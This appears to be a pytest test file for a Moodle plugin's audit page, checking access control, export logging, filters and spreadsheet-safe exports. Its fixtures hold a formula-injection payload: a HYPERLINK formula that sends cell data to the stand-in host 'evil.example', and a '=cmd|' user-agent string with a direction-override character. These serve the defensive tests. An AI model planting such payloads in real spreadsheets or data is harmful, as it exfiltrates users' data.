"""The page of the record: who sees what of it, what it is searched by, and what leaves the site through it."""

from __future__ import annotations

import functools
import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.error import HTTPError

import pytest

from tests.moodle.bridge_connection import BridgeConnection
from tests.moodle.campus import MoodleCampus
from tests.moodle.record_command import Downloader, RecordCommand, read_table
from tests.moodle.sealed_record import SealedRecord, call_of
from tests.moodle.visitor import text_of, visitor

PAGE = "local/mcpgate/audit.php"
FILTERS = Path(__file__).parent / "php/record_filters.php"
FUNCTION = "core_webservice_get_site_info"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"look")'
AGENT = '+1\u202e;"=cmd|x, „Ñandú“ 助手'
TEXTS = (
    "client",
    "tool",
    "functionname",
    "scopes",
    "errorcode",
    "clientip",
    "protocol",
    "useragent",
    "node",
    "recordid",
)
NUMBERS = ("connectionid", "durationms", "resultbytes", "attempts")
CONTAINS, EQUALS, NUMBER_EQUALS, CHOSEN, BETWEEN = 1, 3, 5, 2, 3


@pytest.fixture(scope="module")
def record(campus: MoodleCampus) -> RecordCommand:
    return RecordCommand(site=campus.site)


@pytest.fixture(scope="module")
def manager(campus: MoodleCampus) -> Downloader:
    """Who may see all of the record."""
    return Downloader(campus.site, campus.people["coord.edu"])


@pytest.fixture(scope="module")
def nasty(campus: MoodleCampus) -> dict[str, Any]:
    """A row in which other people wrote what a spreadsheet would run."""
    person = campus.people["bruno.costa"].userid
    call = call_of(
        person, client=FORMULA, useragent=AGENT, node="nasty", errorcode="odd", argumentkeys=["courseid", "+2"]
    )
    (auditid,) = SealedRecord(site=campus.site).control(rows=[call])["ids"]
    (row,) = campus.site.database.table("local_mcpgate_audit", where=f"id = {auditid}")
    return row


def calls_of(connect: Callable[..., BridgeConnection], *usernames: str) -> dict[str, str]:
    """Let people call a function; return the addresses they called from, by person."""
    addresses = {name: f"198.51.100.{number}" for number, name in enumerate(usernames, start=1)}
    for name, address in addresses.items():
        connection = connect(name)
        record = connection.request(FUNCTION)["record"] | {"clientip": address}
        assert connection.call(FUNCTION, record=record).row["outcome"] == "allowed"
    return addresses


def test_managers_see_what_the_assistants_of_all_did_and_everybody_what_their_own_did(
    campus: MoodleCampus, connect: Callable[..., BridgeConnection]
) -> None:
    addresses = calls_of(connect, "ana.lima", "bruno.costa")
    with visitor(campus, "coord.edu") as coordinator:
        page = text_of(coordinator.open(PAGE))
        assert all(address in page for address in addresses.values())
        assert "Ana Lima" in page
    with visitor(campus, "ana.lima") as ana:
        page = text_of(ana.open(f"{PAGE}?own=1"))
        assert (addresses["ana.lima"] in page, addresses["bruno.costa"] in page) == (True, False)
        assert "What my assistants did" in text_of(ana.open("local/mcpgate/connections.php"))


@pytest.mark.parametrize("username", ["ana.lima", "prof.smith", "vic.visitor"])
@pytest.mark.threat(88)
def test_who_may_not_see_the_record_gets_nothing_of_others_from_any_door(
    campus: MoodleCampus, record: RecordCommand, nasty: dict[str, Any], username: str
) -> None:
    person = Downloader(campus.site, campus.people[username])
    before = record.exported()
    for take in (lambda: person.get(PAGE), lambda: person.export("csv"), lambda: person.export("json", own=0)):
        assert "nasty" not in refused(take)
    for parameters in ({}, {"own": 1}, {"download": "csv"}):
        answer = person.ajax("core_table_get_dynamic_table_content", table_of(campus, "whole_record", parameters))
        assert answer[0]["error"]
        assert nasty["clientip"] not in json.dumps(answer)
    assert record.exported() == before
    assert nasty["recordid"].encode() not in person.export("json", own=1)


@pytest.mark.threat(88)
def test_a_table_neutralises_what_a_spreadsheet_would_run(
    manager: Downloader, record: RecordCommand, nasty: dict[str, Any]
) -> None:
    tables = [read_table(manager.export("csv").decode()), record.table("--node=nasty")]
    for table in tables:
        (row,) = (row for row in table if row["recordid"] == nasty["recordid"])
        assert row["client"] == f"'{FORMULA}".replace(',"look', ",'\"look") or row["client"] == f"'{FORMULA}"
        assert row["useragent"].startswith("'")
        assert ";'\"=cmd" in row["useragent"]
        assert row["argumentkeys"] == "courseid +2"
        assert row["durationms"] == "31"
    sheet = zipfile.ZipFile(io.BytesIO(manager.export("excel")))
    cells = "".join(sheet.read(name).decode() for name in sheet.namelist() if name.startswith("xl/"))
    assert "<f>" not in cells
    assert re.search(r">(&#0?39;|&apos;|')=HYPERLINK", cells)


@pytest.mark.threat(88)
def test_json_is_as_it_was_recorded(manager: Downloader, record: RecordCommand, nasty: dict[str, Any]) -> None:
    ((*rows,),) = json.loads(manager.export("json"))
    (row,) = (row for row in rows if row["recordid"] == nasty["recordid"])
    assert (row["client"], row["useragent"]) == (nasty["client"], nasty["useragent"])
    assert (row["client"], row["durationms"], row["tool"]) == (FORMULA, 31, "call_moodle_function")
    assert row["argumentkeys"] == ["courseid", "+2"]
    assert (row["class"], row["person"]) == ("read", "Bruno Costa")
    assert record.lines("--node=nasty") == [row]
    assert json.loads(record.attempt("--format=json", "--node=nasty").stdout) == [row]


@pytest.mark.threat(88)
def test_every_export_is_on_record_with_who_what_by_which_filters_and_how_much(
    campus: MoodleCampus, manager: Downloader, record: RecordCommand, nasty: dict[str, Any]
) -> None:
    taken = read_table(manager.export("csv").decode())
    row = record.exports()[-1]
    assert (row["userid"], row["tool"], row["attempts"]) == (campus.people["coord.edu"].userid, "csv", len(taken))
    assert (row["clientip"], row["outcome"], row["argumentkeys"]) == ("127.0.0.1", "allowed", "[]")
    assert row["recordid"] not in [line["recordid"] for line in taken]
    event = [event for event in campus.events() if event.name == "record_exported"][-1]
    assert (event.userid, event.other["recordid"]) == (row["userid"], row["recordid"])

    record.lines("--node=nasty", "--from=2020-01-01")
    row = record.exports()[-1]
    assert (row["userid"], row["tool"], row["attempts"]) == (None, "jsonl", 1)
    assert sorted(json.loads(row["argumentkeys"])) == ["from", "node"]

    bruno = Downloader(campus.site, campus.people["bruno.costa"])
    ((*own,),) = json.loads(bruno.export("json", own=1))
    assert {line["userid"] for line in own} == {nasty["userid"]}
    row = record.exports()[-1]
    assert (row["userid"], json.loads(row["argumentkeys"]), row["attempts"]) == (nasty["userid"], ["own"], len(own))


@pytest.mark.threat(88)
def test_nothing_leaves_by_moodles_own_download_which_is_not_on_record(
    campus: MoodleCampus, manager: Downloader, record: RecordCommand, nasty: dict[str, Any]
) -> None:
    before = record.exported()
    table = table_of(campus, "whole_record", {"download": "csv"})
    for name in ("whole_record", "own_record"):
        query: dict[str, Any] = {"id": report_id(campus, name), "download": "csv", "parameters": "{}"}
        page = refused(functools.partial(manager.get, "reportbuilder/download.php", **query))
        assert nasty["clientip"] not in page
    answer = manager.ajax("core_table_get_dynamic_table_content", table)
    assert answer[0]["error"]
    assert nasty["clientip"] not in json.dumps(answer)
    assert record.exported() == before


@pytest.mark.threat(88)
def test_a_link_of_somebody_else_exports_nothing(manager: Downloader, record: RecordCommand) -> None:
    before = record.exported()
    for query in ({"sesskey": "forged"}, {"sesskey": ""}):
        assert "recordid" not in refused(functools.partial(manager.export, "csv", **query))
    assert "recordid" not in refused(lambda: manager.export("pdf"))
    assert record.exported() == before


def test_every_column_is_a_filter(campus: MoodleCampus, nasty: dict[str, Any]) -> None:
    person = nasty["userid"]
    text = {name: {"operator": EQUALS, "value": nasty[name]} for name in TEXTS}
    number = {name: {"operator": NUMBER_EQUALS, "value1": nasty[name]} for name in NUMBERS}
    chosen = {name: {"operator": 1, "value": nasty[name]} for name in ("outcome", "kind", "functionclass")}
    values: dict[str, dict[str, Any]] = text | number | chosen
    values["timecreated"] = {"operator": BETWEEN, "from": nasty["timecreated"], "to": nasty["timecreated"]}
    values["userid"] = {"operator": CHOSEN, "value": [person]}
    values["courseid"] = {"values": [nasty["courseid"]]}
    values["argumentkeys"] = {"operator": CONTAINS, "value": '"+2"'}
    values["sealed"] = {"operator": 2}
    found = filtered(campus, values)

    assert sorted(found["filters"]) == sorted(values)
    unsearched = {"id", "timedeadline", "salt", "commitment", "chainhash", "chainnumber", "sealid"}
    assert set(nasty) - unsearched == set(values) - {"sealed"}
    for name, count in found["counts"].items():
        if name not in ("sealed", "argumentkeys", "timecreated"):
            assert count["rows"] == len(rows_where(campus, name, nasty[name])), name
        assert (count["names"], count["rows"] >= 1 or name == "sealed") == ([name], True), name
    assert found["counts"]["argumentkeys"]["rows"] == 1


def filtered(campus: MoodleCampus, values: dict[str, dict[str, Any]]) -> dict[str, Any]:
    """Return the report's filters, and what each leaves with its values."""
    installation = campus.site.installation
    found: dict[str, Any] = json.loads(installation.run(FILTERS, str(installation.dirroot), json.dumps(values)))
    return found


def rows_where(campus: MoodleCampus, column: str, value: object) -> list[dict[str, Any]]:
    rows = campus.site.database.table("local_mcpgate_audit")
    return [row for row in rows if row[column] == value]


def report_id(campus: MoodleCampus, name: str) -> int:
    """Return Moodle's number of a report that somebody has opened."""
    with visitor(campus, "coord.edu") as coordinator:
        for query in ("", "?own=1"):
            coordinator.open(f"{PAGE}{query}")
    (row,) = campus.site.database.table("reportbuilder_report", where=f"source LIKE '%{name}'")
    number: int = row["id"]
    return number


def table_of(campus: MoodleCampus, name: str, parameters: dict[str, Any]) -> dict[str, Any]:
    """Return what a page asks Moodle for when somebody turns its leaves."""
    number = report_id(campus, name)
    filters = [("reportid", number), ("parameters", json.dumps(parameters))]
    return {
        "component": "core_reportbuilder",
        "handler": "system_report_table",
        "uniqueid": f"system-report-table-{number}",
        "sortdata": [],
        "filters": [{"name": name, "jointype": 1, "values": [value]} for name, value in filters],
        "jointype": 2,
        "firstinitial": "",
        "lastinitial": "",
        "pagenumber": 1,
        "pagesize": 30,
        "hiddencolumns": [],
        "resetpreferences": False,
    }


def refused(take: Callable[[], bytes]) -> str:
    """Return what an address says that must not hand anything out."""
    try:
        return take().decode(errors="replace")
    except HTTPError as error:
        return error.read().decode(errors="replace")
